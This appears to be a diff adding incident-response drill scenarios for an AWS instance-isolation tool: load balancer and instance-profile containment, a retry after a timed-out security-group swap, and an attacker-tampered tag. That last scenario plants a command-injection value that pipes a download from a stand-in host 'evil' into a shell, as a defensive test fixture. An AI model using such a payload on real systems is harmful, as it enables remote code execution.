@@ -170,6 +170,8 @@ def _stuck_record(account: SimulatedAccount, staged: Staged) -> None:
     started = datetime.now(UTC) - timedelta(seconds=stale_after + 60)
     register(dynamodb, table, incident.model_dump(mode="json"), execution_arn=dead, now=started)
     staged.notes.append(f"incident record left responding by {dead} since {started:%Y-%m-%dT%H:%M:%SZ}")
+
+
 # -- investigation (issue 12 item 6: state size, exemptions; issue 14 items 1-3: what the trail can hide)
 # CloudTrail records written for these drills (no public trail shows them): the drill makes them the
 # staged incident's story (drill/scenario.py: the exposed key, its owner, times after the exposure).
@@ -403,6 +405,8 @@ def _largest_instance_state(account: SimulatedAccount, staged: Staged) -> None:
         for i in range(1000)
     ]
     _trail(account, staged, records)
+
+
 # -- exposed key (contain_key)
 
 ROOT_USER_NAME = "<root_account>"  # what IAM names the root user (credential report, GetAccessKeyLastUsed)
@@ -526,6 +530,101 @@ def _owner_activity(account: SimulatedAccount, staged: Staged) -> None:
         ),
     ]
     handler.cloudtrail_client = FakeCloudTrailFactory(records)  # type: ignore[assignment]
+
+
+# -- instance: load balancers, instance profile, isolation under attack
+
+
+def _behind_load_balancers(account: SimulatedAccount, staged: Staged) -> None:
+    """The web tier: the instance is a target of an ALB target group and a member of a Classic Load Balancer."""
+    ec2 = account.client("ec2", staged.region)
+    elbv2, elb = account.client("elbv2", staged.region), account.client("elb", staged.region)
+    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
+    group = elbv2.create_target_group(
+        Name="web-targets", Protocol="HTTP", Port=8080, VpcId=instance["VpcId"], TargetType="instance"
+    )["TargetGroups"][0]["TargetGroupArn"]
+    elbv2.register_targets(TargetGroupArn=group, Targets=[{"Id": staged.instances[0], "Port": 8080}])
+    elb.create_load_balancer(
+        LoadBalancerName="legacy-web",
+        Listeners=[{"Protocol": "HTTP", "LoadBalancerPort": 80, "InstancePort": 8080}],
+        AvailabilityZones=[instance["Placement"]["AvailabilityZone"]],
+    )
+    elb.register_instances_with_load_balancer(
+        LoadBalancerName="legacy-web", Instances=[{"InstanceId": staged.instances[0]}]
+    )
+    staged.notes.append(
+        f"instance {staged.instances[0]} registered in target group web-targets and Classic LB legacy-web"
+    )
+
+
+def _incident_id(staged: Staged) -> str:
+    """The id Normalize gives a GuardDuty finding (the instance tag of an earlier attempt carries it)."""
+    return (
+        f"{staged.event['detail'].get('accountId') or staged.event['account']}:guardduty:{staged.event['detail']['id']}"
+    )
+
+
+def _left_on_the_all_open_group(account: SimulatedAccount, staged: Staged) -> None:
+    """What an attempt killed by a Lambda timeout between the two swaps leaves: the responder's copy
+    of the original groups on the instance, the all-open group open, and one interface on it."""
+    from isolate_instance.actions import PURPOSE_TAG, UNTRACK_GROUP, original_groups_tags
+
+    ec2 = account.client("ec2", staged.region)
+    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
+    primary = next(e for e in instance["NetworkInterfaces"] if e["Attachment"]["DeviceIndex"] == 0)
+    untrack = ec2.create_security_group(
+        GroupName=UNTRACK_GROUP,
+        Description="left by a dead attempt",
+        VpcId=primary["VpcId"],
+        TagSpecifications=[{"ResourceType": "security-group", "Tags": [{"Key": PURPOSE_TAG, "Value": "untrack"}]}],
+    )["GroupId"]
+    ec2.authorize_security_group_ingress(
+        GroupId=untrack, IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
+    )
+    originals = {
+        eni["NetworkInterfaceId"]: [g["GroupId"] for g in eni["Groups"]] for eni in instance["NetworkInterfaces"]
+    }
+    ec2.create_tags(Resources=staged.instances, Tags=original_groups_tags(originals, _incident_id(staged)))
+    ec2.modify_network_interface_attribute(NetworkInterfaceId=primary["NetworkInterfaceId"], Groups=[untrack])
+    staged.notes.append(f"{primary['NetworkInterfaceId']} left on the open all-open group {untrack}")
+
+
+def _timeout_on_second_swap() -> list[Fault]:
+    """The call that moves an interface from the all-open group to the isolation group dies once
+    without an answer from AWS (not a ClientError): the second of two calls for one interface."""
+    from botocore.exceptions import ReadTimeoutError
+
+    state: dict[str, Any] = {"before": None, "raised": False}
+
+    def fault(service: str, operation: str, params: dict[str, Any]) -> Exception | None:
+        if (service, operation) != ("ec2", "ModifyNetworkInterfaceAttribute"):
+            return None
+        eni = params.get("NetworkInterfaceId")
+        second, state["before"] = eni == state["before"], eni
+        if second and not state["raised"]:
+            state["raised"] = True
+            return ReadTimeoutError(endpoint_url=f"https://ec2.amazonaws.com/?eni={eni}")
+        return None
+
+    return [fault]
+
+
+def _tampered_tag(account: SimulatedAccount, staged: Staged) -> None:
+    """Before the response, the attacker rewrites the original-groups tag: a shell payload for the
+    instance's interface, and another interface (not the instance's) with a group of the attacker's."""
+    from isolate_instance.actions import ORIGINAL_TAG
+
+    ec2 = account.client("ec2", staged.region)
+    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
+    primary = instance["NetworkInterfaces"][0]
+    other = ec2.create_network_interface(SubnetId=primary["SubnetId"])["NetworkInterface"]["NetworkInterfaceId"]
+    staged.mapping["attacker-eni"] = other
+    planted = {primary["NetworkInterfaceId"]: ["sg-1;curl${IFS}evil|sh"], other: [primary["Groups"][0]["GroupId"]]}
+    ec2.create_tags(
+        Resources=staged.instances,
+        Tags=[{"Key": ORIGINAL_TAG, "Value": json.dumps({"incident": _incident_id(staged), "groups": planted})}],
+    )
+    staged.notes.append(f"original-groups tag rewritten by the attacker (shell payload, foreign ENI {other})")
 
 
 SCENARIOS = {
@@ -784,6 +883,41 @@ SCENARIOS = {
             "the key's owner created a role and a key before the exposure, from its usual address: both are left "
             "untouched and reported as the owner's",
             setup=_owner_activity,
+        ),
+        # -- instance: load balancers, instance profile, isolation under attack
+        Scenario(
+            "load-balancer",
+            "guardduty_exfil_outside_realistic.json",
+            "contained",
+            "the instance is behind an ALB target group and a Classic Load Balancer: deregistered from both "
+            "(recorded for release), so the attacker's requests no longer reach it",
+            setup=_behind_load_balancers,
+        ),
+        Scenario(
+            "instance-profile",
+            "guardduty_exfil_outside_realistic.json",
+            "contained",
+            "the instance profile association is removed (the profile recorded for release): the metadata "
+            "service hands out no new role credentials",
+        ),
+        Scenario(
+            "untrack-timeout",
+            "crafted/guardduty_exfil_three_enis_two_vpcs.json",
+            "contained",
+            "an earlier attempt died between the two swaps (an interface left on the open all-open group), and "
+            "this one times out once on a second swap: after the retry no interface is on the all-open group "
+            "and it has no rules",
+            setup=_left_on_the_all_open_group,
+            faults=_timeout_on_second_swap,
+        ),
+        Scenario(
+            "tag-tampered",
+            "guardduty_exfil_outside_realistic.json",
+            "contained",
+            "the attacker rewrote the original-groups tag (a shell payload, another ENI) even with this "
+            "incident's id: the live groups are recorded, the report's commands are quoted, release restores "
+            "the recorded groups on the instance's own interfaces only",
+            setup=_tampered_tag,
         ),
     )
 }
